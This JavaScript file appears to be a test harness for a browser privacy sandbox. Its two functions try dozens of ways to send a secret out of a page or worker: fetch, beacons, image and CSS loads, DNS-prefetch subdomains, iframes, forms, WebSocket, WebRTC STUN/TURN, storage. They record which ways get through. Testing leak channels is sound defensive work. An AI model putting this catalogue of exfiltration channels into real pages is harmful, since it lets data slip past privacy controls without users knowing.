// Every way out of a page that we know of, for the privacy test to try. Each function
// is sent to a page or a worker as it stands, so it names nothing outside itself.
//
// A target is `{ http, name, tcp, udp, secret }`: an origin, a host name that only a
// resolver would hear of, ports that listen, and what is to get out.

/** Tries all ways of a page; answers what each came to, by name. */
export async function fromPage(target) {
  const url = (way) => `${target.http}/${way}?${target.secret}`;
  const element = (name, attributes, parent = document.body) => {
    const node = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value);
    parent.append(node);
    return node;
  };
  const svg = (name, attributes) => {
    const picture = element("svg", {});
    picture.outerHTML = `<svg xmlns="http://www.w3.org/2000/svg"><${name} ${attributes} width="9" height="9"/></svg>`;
    return "tried";
  };
  const loads = (name, attributes, parent) => {
    element(name, attributes, parent);
    return "tried";
  };
  const link = (rel, more = {}) => loads("link", { rel, href: url(rel), ...more }, document.head);
  const styled = (css) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(css);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return "tried";
  };
  const rtc = async (Connection, server) => {
    const peer = new Connection({ iceServers: [server], iceTransportPolicy: server.credential ? "relay" : "all" });
    peer.createDataChannel("out");
    await peer.setLocalDescription(await peer.createOffer());
    return "OPENED";
  };
  const stun = { urls: `stun:127.0.0.1:${target.udp}` };
  const turn = { urls: [`turn:127.0.0.1:${target.udp}`, `turn:127.0.0.1:${target.tcp}?transport=tcp`], username: "u", credential: "c" };
  const frameOf = (attributes) => {
    element("iframe", attributes);
    return globalThis[globalThis.length - 1];
  };
  const ways = {
    "fetch": () => fetch(url("fetch")).then(() => "SENT"),
    "fetch-post": () => fetch(url("fetch-post"), { method: "POST", body: target.secret, mode: "no-cors" }).then(() => "SENT"),
    "fetch-keepalive": () => fetch(url("fetch-keepalive"), { keepalive: true, mode: "no-cors" }).then(() => "SENT"),
    "fetch-later": () => (globalThis.fetchLater?.(url("fetch-later"), { activateAfter: 0 }), "tried"),
    "xhr": () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open("GET", url("xhr"));
      request.onload = () => done("SENT");
      request.onerror = () => done("refused");
      request.send();
    }),
    "websocket": () => new Promise((done) => {
      const socket = new WebSocket(url("websocket").replace("http", "ws"));
      socket.onopen = () => done("OPENED");
      socket.onerror = () => done("refused");
    }),
    "eventsource": () => (new EventSource(url("eventsource")), "tried"),
    "beacon": () => (navigator.sendBeacon(url("beacon"), target.secret), "tried"),
    "image": () => loads("img", { src: url("image") }),
    "image-object": () => ((new Image().src = url("image-object")), "tried"),
    "srcset": () => loads("img", { srcset: url("srcset") }),
    "attribution": () => loads("img", { attributionsrc: url("attribution"), src: "data:," }),
    "input-image": () => loads("input", { type: "image", src: url("input-image") }),
    "table-background": () => loads("table", { background: url("table-background") }),
    "audio": () => loads("audio", { src: url("audio"), preload: "auto" }),
    "video": () => loads("video", { src: url("video"), preload: "auto" }),
    "poster": () => loads("video", { poster: url("poster") }),
    "svg-image": () => svg("image", `href="${url("svg-image")}"`),
    "svg-use": () => svg("use", `href="${url("svg-use")}#a"`),
    "svg-fe-image": () => svg('filter id="f"><feImage', `href="${url("svg-fe-image")}"/></filter><rect filter="url(#f)"`),
    "script": () => loads("script", { src: url("script") }),
    "module": () => loads("script", { type: "module", src: url("module") }),
    "speculation": () => {
      const rules = element("script", { type: "speculationrules" });
      rules.textContent = JSON.stringify({ prefetch: [{ urls: [url("speculation")], eagerness: "immediate" }] });
      return "tried";
    },
    "import": () => import(url("import")).then(() => "SENT", () => "refused"),
    "worker": () => (new Worker(url("worker")), "tried"),
    "shared-worker": () => (new SharedWorker(url("shared-worker")), "tried"),
    "paint-worklet": () => CSS.paintWorklet.addModule(url("paint-worklet")).then(() => "SENT"),
    "audio-worklet": () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url("audio-worklet")).then(() => "SENT"),
    "stylesheet": () => link("stylesheet"),
    "style-import": () => ((element("style", {}, document.head).textContent = `@import "${url("style-import")}";`), "tried"),
    "style-url": () => (document.body.style.setProperty("background-image", `url("${url("style-url")}")`), "tried"),
    "sheet-url": () => styled(`html { background-image: url("${url("sheet-url")}") }`),
    "cursor": () => styled(`html { list-style-image: url("${url("cursor")}"); border-image-source: url("${url("cursor")}") }`),
    "font-face": () => new FontFace("out", `url("${url("font-face")}")`).load().then(() => "SENT", () => "refused"),
    "prefetch": () => link("prefetch"),
    "preload-image": () => link("preload", { as: "image", href: url("preload-image") }),
    "preload-fetch": () => link("preload", { as: "fetch", href: url("preload-fetch"), crossorigin: "" }),
    "preload-style": () => link("preload", { as: "style", href: url("preload-style") }),
    "modulepreload": () => link("modulepreload"),
    "preconnect": () => link("preconnect", { href: `http://127.0.0.1:${target.tcp}/` }),
    "preconnect-name": () => link("preconnect", { href: `http://preconnect.${target.secret}.${target.name}/` }),
    "dns-prefetch": () => link("dns-prefetch", { href: `//dns-prefetch.${target.secret}.${target.name}/` }),
    "dns-anchor": () => {
      element("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
      return loads("a", { href: `http://dns-anchor.${target.secret}.${target.name}/` });
    },
    "link-markup": () => {
      const html = `<link rel="preconnect" href="http://link-markup.${target.secret}.${target.name}/">`;
      document.head.insertAdjacentHTML("beforeend", html);
      return "tried";
    },
    "link-parsed": () => {
      const html = `<link rel="preconnect" href="http://link-parsed.${target.secret}.${target.name}/">`;
      document.head.append(new DOMParser().parseFromString(html, "text/html").querySelector("link"));
      return "tried";
    },
    "link-attribute": () => {
      // The page's own link, or one without attributes, given others.
      const node = document.querySelector("link") ?? element("link", { rel: "preconnect", href: "data:," }, document.head);
      for (const attribute of node.attributes) {
        if (attribute.name === "rel") attribute.value = "preconnect";
        if (attribute.name === "href") attribute.nodeValue = `http://link-attribute.${target.secret}.${target.name}/`;
      }
      return "tried";
    },
    "link-in-frame": () => {
      const html = `<link rel="preconnect" href="http://link-in-frame.${target.secret}.${target.name}/">`;
      return loads("iframe", { srcdoc: html });
    },
    "manifest": () => link("manifest"),
    "icon": () => link("icon"),
    "frame": () => loads("iframe", { src: url("frame") }),
    "object": () => loads("object", { data: url("object") }),
    "embed": () => loads("embed", { src: url("embed") }),
    "srcdoc-frame": () => loads("iframe", { srcdoc: `<img src="${url("srcdoc-frame")}"><script>fetch("${url("srcdoc-frame")}")<\/script>` }),
    "data-frame": () => loads("iframe", { src: `data:text/html,<img src="${url("data-frame")}">` }),
    "blank-frame": () => frameOf({}).fetch(url("blank-frame"), { mode: "no-cors" }).then(() => "SENT"),
    "blank-frame-image": () => ((new (frameOf({}).Image)().src = url("blank-frame-image")), "tried"),
    "frame-stun": () => rtc(frameOf({}).RTCPeerConnection, stun),
    "class-frame-stun": () => {
      const Frame = class extends HTMLIFrameElement {};
      customElements.define(`out-${Math.random().toString(36).slice(2)}`, Frame, { extends: "iframe" });
      document.body.append(new Frame());
      return rtc(globalThis[globalThis.length - 1].RTCPeerConnection, stun);
    },
    "markup-frame-stun": () => {
      const holder = element("div", {});
      holder.innerHTML = "<iframe></iframe>";
      return rtc(globalThis[globalThis.length - 1].RTCPeerConnection, stun);
    },
    "form": () => (element("form", { action: url("form"), method: "post", target: "_blank" }).submit(), "tried"),
    "form-in-frame": () => {
      element("iframe", { name: "inside" });
      element("form", { action: url("form-in-frame"), target: "inside" }).submit();
      return "tried";
    },
    "ping": () => (element("a", { href: "#ping", ping: url("ping") }).click(), "tried"),
    "blank-link": () => (element("a", { href: url("blank-link"), target: "_blank" }).click(), "tried"),
    "popup": () => (open(url("popup")) ? "OPENED" : "refused"),
    "channel": () => (new BroadcastChannel("out").postMessage(target.secret), "tried"),
    "service-worker": () => navigator.serviceWorker.register("/service-worker.js").then(() => "REGISTERED"),
    "service-worker-message": async () => {
      const { active } = (await navigator.serviceWorker.getRegistration("/")) ?? {};
      active?.postMessage(target.secret);
      return active ? "SENT" : "no service worker";
    },
    "local-storage": () => (localStorage.setItem("out", target.secret), "STORED"),
    "session-storage": () => (sessionStorage.setItem("out", target.secret), "STORED"),
    "indexed-db": () => new Promise((done) => {
      const request = indexedDB.open("out");
      request.onsuccess = () => done("STORED");
      request.onerror = () => done("refused");
    }),
    "caches": () => caches.open("out").then(() => "STORED"),
    "opfs": () => navigator.storage.getDirectory().then(() => "STORED"),
    "cookie": () => ((document.cookie = `out=${target.secret}`), document.cookie.includes("out=") ? "STORED" : "refused"),
    "webtransport": () => new WebTransport(`https://127.0.0.1:${target.udp}/`).ready.then(() => "OPENED", () => "refused"),
    "stun": () => rtc(globalThis.RTCPeerConnection, stun),
    "turn": () => rtc(globalThis.RTCPeerConnection, turn),
    "webkit-stun": () => rtc(globalThis.webkitRTCPeerConnection, stun),
  };
  const limit = () => new Promise((done) => setTimeout(() => done("waiting"), 2_000));
  const attempt = async ([way, goes]) => {
    try {
      return [way, await Promise.race([goes(), limit()])];
    } catch (error) {
      return [way, `refused: ${error.name}`];
    }
  };
  return Object.fromEntries(await Promise.all(Object.entries(ways).map(attempt)));
}

/** The same from a worker. */
export async function fromWorker(target) {
  const url = (way) => `${target.http}/worker-${way}?${target.secret}`;
  const inBlob = (source) => URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
  const ways = {
    "fetch": () => fetch(url("fetch"), { mode: "no-cors" }).then(() => "SENT"),
    "xhr": () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open("GET", url("xhr"));
      request.onload = () => done("SENT");
      request.onerror = () => done("refused");
      request.send();
    }),
    "websocket": () => new Promise((done) => {
      const socket = new WebSocket(url("websocket").replace("http", "ws"));
      socket.onopen = () => done("OPENED");
      socket.onerror = () => done("refused");
    }),
    "eventsource": () => (new EventSource(url("eventsource")), "tried"),
    "import-scripts": () => (importScripts(url("import-scripts")), "SENT"),
    "import": () => import(url("import")).then(() => "SENT", () => "refused"),
    "worker": () => (new Worker(url("worker")), "tried"),
    "nested": () => new Promise((done) => {
      const nested = new Worker(inBlob(`fetch("${url("nested")}", { mode: "no-cors" }).then(() => postMessage("SENT"), () => postMessage("refused"))`));
      nested.onmessage = ({ data }) => done(data);
      nested.onerror = () => done("refused");
    }),
    "font-face": () => new FontFace("out", `url("${url("font-face")}")`).load().then(() => "SENT", () => "refused"),
    "channel": () => (new BroadcastChannel("out").postMessage(target.secret), "tried"),
    "indexed-db": () => new Promise((done) => {
      const request = indexedDB.open("out");
      request.onsuccess = () => done("STORED");
      request.onerror = () => done("refused");
    }),
    "caches": () => caches.open("out").then(() => "STORED"),
    "opfs": () => navigator.storage.getDirectory().then(() => "STORED"),
    "webtransport": () => new WebTransport(`https://127.0.0.1:${target.udp}/`).ready.then(() => "OPENED", () => "refused"),
    "rtc": () => (typeof RTCPeerConnection === "undefined" ? "refused" : "OPENED"),
  };
  const limit = () => new Promise((done) => setTimeout(() => done("waiting"), 2_000));
  const attempt = async ([way, goes]) => {
    try {
      return [`worker-${way}`, await Promise.race([goes(), limit()])];
    } catch (error) {
      return [`worker-${way}`, `refused: ${error.name}`];
    }
  };
  return Object.fromEntries(await Promise.all(Object.entries(ways).map(attempt)));
}
